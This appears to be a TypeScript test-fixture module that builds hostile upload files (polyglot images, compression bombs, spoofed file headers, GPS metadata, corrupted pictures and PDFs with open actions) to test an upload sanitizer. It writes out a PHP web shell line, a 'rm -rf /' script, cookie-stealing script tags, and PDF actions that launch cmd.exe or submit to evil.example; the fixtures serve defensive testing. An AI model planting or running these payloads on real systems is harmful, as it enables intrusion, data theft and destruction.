/** Files that want to run, to fill a memory, to break a decoder or to carry a place along. All are made in code. */
import { deflateSync, gzipSync } from 'node:zlib';
import { bombs } from './bombs.ts';
import { chunkOf, extended, FORMATS, type HostileFile, riffChunk, withChunk } from './formats.ts';
import { exif, pdf, picture, withSegment } from './pictures.ts';

/** Is in the metadata of every file that has some. Nothing that is kept of a picture may contain it. */
export const PLACE = 'GPS 25.0330N 121.5654E';

const SCRIPT = '<html><body onload="alert(1)"><script>alert(document.cookie)</script></body></html>';
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>`;
const ZIP = Buffer.concat([
  Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1'),
  deflateSync(Buffer.alloc(100_000)),
]);
const ATTACHED: Readonly<Record<string, Buffer>> = {
  HTML: Buffer.from(SCRIPT),
  SVG: Buffer.from(SVG),
  PHP: Buffer.from("<?php system($_GET['c']); ?>"),
  archive: ZIP,
  document: pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
  program: Buffer.from(`MZ${'\0'.repeat(58)}\x80\0\0\0PE\0\0`, 'latin1'),
  script: Buffer.from('#!/bin/sh\nrm -rf /\n'),
};

/** Returns the files, the same ones for the same seed. */
export function hostileFiles(seed: number): HostileFile[] {
  const random = randomOf(seed);
  return [
    ...notPictures(),
    ...polyglots(),
    ...bombs(),
    ...withMetadata(random),
    ...damaged(random),
    ...documents(),
    ...animations(),
  ];
}

function notPictures(): HostileFile[] {
  const texts = [SCRIPT, SVG, `\ufeff${SVG}`, `<?xml version="1.0"?>${SVG}`, ` ${SCRIPT}`, `GIF89a${SCRIPT}`];
  const heads = [
    ...['heic', 'heix', 'mif1', 'msf1', 'avif', 'avis', 'qt  ', 'isom', 'M4V '].map(
      (brand) => `\0\0\0\x18ftyp${brand}`,
    ),
    ...[
      'GIF87a',
      'GIF89a',
      'BM',
      'II*\0',
      'MM\0*',
      '\0\0\x01\0',
      '\xff\x0a',
      '8BPS',
      '\x7fELF',
      'MZ',
      '{\\rtf1',
    ],
    ...[
      'PK\x03\x04',
      'PK\x05\x06',
      'Rar!\x1a\x07',
      '7z\xbc\xaf\x27\x1c',
      '\x1f\x8b\x08',
      'BZh9',
      '\xfd7zXZ\0',
      'ustar',
    ],
    ...[
      '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1',
      'L\0\0\0\x01\x14\x02\0',
      '%!PS-Adobe',
      '%PDF-',
      '%PDF-3.0',
      'From: a@b.example',
    ],
    ...[
      'RIFF\0\0\0\0WAVE',
      'RIFF\0\0\0\0AVI ',
      '\xff\xd8',
      '\xff\xd8\xfe',
      '\x89PNG\r\n',
      'RIFF',
      '\0',
      ' ',
      '<',
    ],
  ];
  return [
    ...texts.map((text, n) => ({ about: `text ${n}`, content: Buffer.from(text) })),
    ...heads.map((head) => ({
      about: `the head ${JSON.stringify(head)}`,
      content: Buffer.concat([Buffer.from(head, 'latin1'), Buffer.alloc(200, 'x')]),
    })),
    { about: 'an archive', content: ZIP },
    {
      about: 'an archive of zeros',
      content: gzipSync(Buffer.alloc(200_000_000), { level: 1 }).subarray(0, 1_000_000),
    },
    { about: 'a PDF after HTML', content: Buffer.concat([Buffer.from(SCRIPT), pdf()]) },
    ...FORMATS.map((format) => ({
      about: `a ${format} after HTML`,
      content: Buffer.concat([Buffer.from(SCRIPT), picture(format)]),
    })),
  ].map((file) => ({ ...file, expected: 'type' as const }));
}

/** Pictures and documents that are something else too. */
function polyglots(): HostileFile[] {
  return Object.entries(ATTACHED).flatMap(([name, other]) => [
    ...FORMATS.map((format) => ({
      about: `${format} with ${name} at its end`,
      content: Buffer.concat([picture(format), other]),
      expected: 'image/jpeg' as const,
    })),
    {
      about: `jpeg with ${name} as comment`,
      content: withSegment(picture('jpeg'), 0xfe, other.subarray(0, 60_000)),
      expected: 'image/jpeg' as const,
    },
    {
      about: `png with ${name} as text`,
      content: withChunk(picture('png'), 'tEXt', Buffer.concat([Buffer.from('a\0'), other])),
      expected: 'image/jpeg' as const,
    },
    {
      about: `only the magic of a jpeg before ${name}`,
      content: Buffer.concat([Buffer.of(0xff, 0xd8, 0xff, 0xe0), other]),
      expected: 'broken' as const,
    },
    {
      about: `a PDF with ${name} inside`,
      content: Buffer.concat([Buffer.from('%PDF-1.7\n'), other, pdf()]),
      expected: 'application/pdf' as const,
    },
  ]);
}

/** Metadata with a place, right and broken. */
function withMetadata(random: () => number): HostileFile[] {
  const jpeg = picture('jpeg');
  const xmp = Buffer.from(`http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>${PLACE}</x:xmpmeta>`);
  const broken = Array.from({ length: 60 }, (_, n) => {
    const content = exif(1 + (n % 12), PLACE);
    // The header stays, so that the decoder reads on.
    for (let changes = 0; changes < 4; changes++)
      content[14 + Math.floor(random() * 60)] = Math.floor(random() * 256);
    return { about: `broken EXIF ${n}`, content: withSegment(jpeg, 0xe1, content) };
  });
  const whole = [
    ...Array.from({ length: 9 }, (_, n) => ({
      about: `orientation ${n}`,
      content: withSegment(jpeg, 0xe1, exif(n, PLACE)),
    })),
    { about: 'XMP', content: withSegment(jpeg, 0xe1, xmp) },
    { about: 'IPTC', content: withSegment(jpeg, 0xed, Buffer.from(`Photoshop 3.0\0${PLACE}`)) },
    { about: 'a comment', content: withSegment(jpeg, 0xfe, Buffer.from(PLACE)) },
    {
      about: 'a picture in the metadata',
      content: withSegment(
        jpeg,
        0xe1,
        Buffer.concat([exif(1, PLACE), withSegment(jpeg, 0xe1, exif(1, PLACE))]),
      ),
    },
    {
      about: 'a second picture behind',
      content: Buffer.concat([jpeg, withSegment(jpeg, 0xe1, exif(1, PLACE))]),
    },
    { about: 'png text', content: withChunk(picture('png'), 'tEXt', Buffer.from(`Comment\0${PLACE}`)) },
    { about: 'png EXIF', content: withChunk(picture('png'), 'eXIf', exif(6, PLACE).subarray(6)) },
    { about: 'webp EXIF', content: extended(59, 39, [['EXIF', exif(6, PLACE).subarray(6)]]) },
    { about: 'webp XMP', content: extended(59, 39, [['XMP ', xmp]]) },
  ];
  return [...broken, ...whole.map((file) => ({ ...file, about: `a place in ${file.about}` }))];
}

/** Files that are cut, changed or have a wrong sum. */
function damaged(random: () => number): HostileFile[] {
  const whole = FORMATS.map((format) => [format, picture(format)] as const);
  const cut = [...whole, ['pdf', pdf()] as const].flatMap(([name, content]) =>
    Array.from({ length: 10 }, (_, tenth) => ({
      about: `${name} cut after ${tenth} tenths`,
      content: content.subarray(0, Math.max(1, Math.floor((content.length * tenth) / 10))),
    })),
  );
  const changed = whole.flatMap(([name, content]) =>
    Array.from({ length: 25 }, (_, n) => {
      const other = Buffer.from(content);
      for (let changes = 0; changes <= n; changes++)
        other[12 + Math.floor(random() * (content.length - 12))] = Math.floor(random() * 256);
      return { about: `${name} with ${n + 1} changed bytes`, content: other };
    }),
  );
  const sums = ['IHDR', 'IDAT', 'IEND'].map((type) => {
    const content = picture('png');
    const at = content.indexOf(type, 0, 'latin1');
    const end = at + 4 + content.readUInt32BE(at - 4);
    content[end] = (content[end] ?? 0) ^ 0xff;
    return { about: `png with a wrong sum of ${type}`, content };
  });
  return [...cut, ...changed, ...sums];
}

/** Documents that want to do something when they are opened. They are kept as they are and only downloaded. */
function documents(): HostileFile[] {
  const actions = [
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>',
    '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
    '/OpenAction << /S /URI /URI (https://evil.example/) >>',
    '/OpenAction << /S /SubmitForm /F (https://evil.example/) >>',
    '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share) >>',
    '/AA << /WC << /S /JavaScript /JS (this.exportDataObject\\({cName:"a"}\\)) >> >>',
    '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>',
    '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\("x"\\)) >>] >> >>',
    '/AcroForm << /XFA [(template) 4 0 R] >>',
    '/Extensions << /ADBE << /BaseVersion /1.7 >> >> /RichMedia << >>',
  ];
  return actions.map((action, n) => ({
    about: `a PDF with action ${n}`,
    content: pdf(action),
    expected: 'application/pdf',
  }));
}

/** Pictures that move: the first one is kept. */
function animations(): HostileFile[] {
  const png = picture('png');
  const control = withChunk(png, 'acTL', Buffer.from([0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0]));
  const frame = chunkOf('webp')[1];
  const moving = Buffer.concat([
    Buffer.alloc(6),
    Buffer.of(59, 0, 0, 39, 0, 0, 100, 0, 0, 0),
    riffChunk('VP8 ', frame),
  ]);
  return [
    { about: 'a moving png', content: control },
    {
      about: 'a moving webp',
      content: extended(
        59,
        39,
        [
          ['ANIM', Buffer.alloc(6)],
          ['ANMF', moving],
          ['ANMF', moving],
        ],
        0x02,
      ),
    },
    { about: 'a moving webp of no picture', content: extended(59, 39, [['ANIM', Buffer.alloc(6)]], 0x02) },
  ];
}

/** Numbers from 0 to below 1 (mulberry32). */
function randomOf(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b_79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}
